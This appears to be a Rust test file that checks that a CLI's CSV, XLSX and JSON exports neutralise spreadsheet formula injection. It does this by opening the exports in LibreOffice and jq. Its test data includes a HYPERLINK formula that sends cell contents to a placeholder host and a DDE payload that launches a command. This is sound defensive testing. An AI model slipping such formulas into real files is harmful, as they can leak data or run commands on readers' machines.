//! What was exported, opened by the programs that people open it with: LibreOffice for tables, jq for lines of JSON.
//! `cargo xtask test` installs both; where one is missing its test says that it was skipped.

#![cfg(unix)]
#![expect(clippy::print_stderr, reason = "a test that is skipped says so")]

use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;
use testkit::fixture::{SyncedHome, escalated, toured};

/// What a spreadsheet would calculate, or send somewhere, if it took it for a formula.
const FORMULAS: [&str; 6] = [
    "=1+1",
    "+2+3",
    "-4+1",
    "@SUM(1;2)",
    "=HYPERLINK(\"https://a.example/?\"&A1;\"here\")",
    "=cmd|' /C calc'!A0",
];
/// What a careless reader makes something else of.
const TEXTS: [&str; 5] = [
    "a \"quoted\", word; and\ttab",
    "two\nlines",
    "007",
    "2026-01-02",
    "Ωμέγα 会议室 🎫",
];

struct ReaderBench {
    home: SyncedHome,
    folder: tempfile::TempDir,
}

impl ReaderBench {
    /// A conversation for each subject.
    fn new() -> Self {
        let subjects = FORMULAS.iter().chain(&TEXTS);
        let named = subjects.enumerate().map(|(at, subject)| {
            let mut change = toured(&format!("c{at}"));
            change.conversation.subject = Some((*subject).to_owned());
            change
        });
        let all: Vec<_> = named.chain([escalated("last")]).collect();
        Self {
            home: SyncedHome::new(env!("CARGO_BIN_EXE_daybook-cli"), &all),
            folder: tempfile::tempdir().expect("a folder"),
        }
    }

    fn export(&self, format: &str, words: &[&str]) -> PathBuf {
        let target = self.folder.path().join(format!("all.{format}"));
        let out = target.to_str().expect("a text");
        let asked = ["export", "--format", format, "--out", out];
        let ran = self.home.run(&[&asked, words].concat());
        assert_eq!(ran.code, 0, "{format}: {}", ran.stderr);
        target
    }

    /// The cells of the first sheet as LibreOffice shows them, each text in quotes and formulas calculated.
    fn cells(&self, table: &Path) -> Vec<Vec<String>> {
        let folder = self.folder.path().join("opened");
        let profile = format!(
            "-env:UserInstallation=file://{}/office",
            self.folder.path().display()
        );
        let as_shown = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false";
        // Commas alone part the cells, in UTF-8; a text in quotes is a text, and a number one.
        let as_csv = "--infilter=Text - txt - csv (StarCalc):44,34,76,1,,0,false,true";
        let mut office = Command::new("soffice");
        office.args([&profile, "--headless", "--convert-to", as_shown]);
        if table.extension().is_some_and(|it| it == "csv") {
            office.arg(as_csv);
        }
        let ran = office
            .arg("--outdir")
            .arg(&folder)
            .arg(table)
            .output()
            .expect("it runs");
        let shown = folder.join("all.csv");
        assert!(shown.exists(), "{}", String::from_utf8_lossy(&ran.stderr));
        let text = fs::read_to_string(&shown).expect("a file");
        fs::remove_file(&shown).expect("removed");
        let rows = csv_rows(&text);
        assert!(rows.len() > FORMULAS.len(), "{text}");
        rows
    }
}

/// The fields of CSV, lines in quotes included.
fn csv_rows(text: &str) -> Vec<Vec<String>> {
    let (mut rows, mut row, mut field, mut is_quoted) =
        (Vec::new(), Vec::new(), String::new(), false);
    let mut signs = text.chars().peekable();
    while let Some(sign) = signs.next() {
        match sign {
            '"' if is_quoted && signs.peek() == Some(&'"') => field.extend(signs.next()),
            '"' => is_quoted = !is_quoted,
            ',' if !is_quoted => row.push(std::mem::take(&mut field)),
            '\n' if !is_quoted => {
                row.push(std::mem::take(&mut field));
                rows.push(std::mem::take(&mut row));
            }
            other => field.push(other),
        }
    }
    rows
}

fn is_here(program: &str) -> bool {
    let is_here = Command::new(program).arg("--version").output().is_ok();
    if !is_here {
        eprintln!("skipped: {program} is not installed; `cargo xtask setup` installs it");
    }
    is_here
}

fn column<'r>(rows: &'r [Vec<String>], name: &str) -> Vec<&'r str> {
    let place = rows[0]
        .iter()
        .position(|it| it == name)
        .expect("the column");
    rows[1..].iter().map(|row| row[place].as_str()).collect()
}

#[test]
fn no_formula_is_calculated_by_libreoffice_and_each_text_stays_as_it_is() {
    if !is_here("soffice") {
        return;
    }
    let bench = ReaderBench::new();
    let unmasked = ["--columns", "subject,messages,started_at"];
    for format in ["csv", "xlsx"] {
        let table = bench.export(format, &unmasked);
        let rows = bench.cells(&table);
        let subjects = column(&rows, "subject");
        assert_eq!(subjects.len(), FORMULAS.len() + TEXTS.len() + 1, "{format}");
        for text in FORMULAS {
            // In CSV an apostrophe says that it is a text; a workbook says it without one.
            let shown = if format == "csv" {
                format!("'{text}")
            } else {
                text.to_owned()
            };
            assert!(
                subjects.contains(&shown.as_str()),
                "{format}: {text}: {subjects:?}"
            );
        }
        // Of CSV each reader guesses what a number is; a workbook says it.
        let texts = TEXTS.iter().filter(|it| format == "xlsx" || **it != "007");
        for text in texts {
            assert!(subjects.contains(text), "{format}: {text}: {subjects:?}");
        }
        for count in column(&rows, "messages") {
            assert!(
                count.parse::<u32>().is_ok(),
                "{format}: {count} is a number"
            );
        }
    }
}

#[test]
fn lines_of_json_are_read_by_jq() {
    if !is_here("jq") {
        return;
    }
    let bench = ReaderBench::new();
    let lines = bench.export("jsonl", &["--columns", "subject,messages"]);
    let question = "[.[] | select((.subject | type) == \"string\" and .messages > 0)] | length";
    let ran = Command::new("jq")
        .args(["-s", question])
        .arg(&lines)
        .output()
        .expect("it runs");
    let told = String::from_utf8_lossy(&ran.stdout);
    assert_eq!(
        told.trim().parse(),
        Ok(FORMULAS.len() + TEXTS.len() + 1),
        "{told}"
    );
    let whole = bench.export("json", &["--columns", "subject"]);
    let ran = Command::new("jq")
        .args(["-r", ".[].subject // empty"])
        .arg(&whole)
        .output()
        .expect("it runs");
    let told = String::from_utf8_lossy(&ran.stdout);
    for text in FORMULAS {
        assert!(told.lines().any(|line| line == text), "{text}: {told}");
    }
}
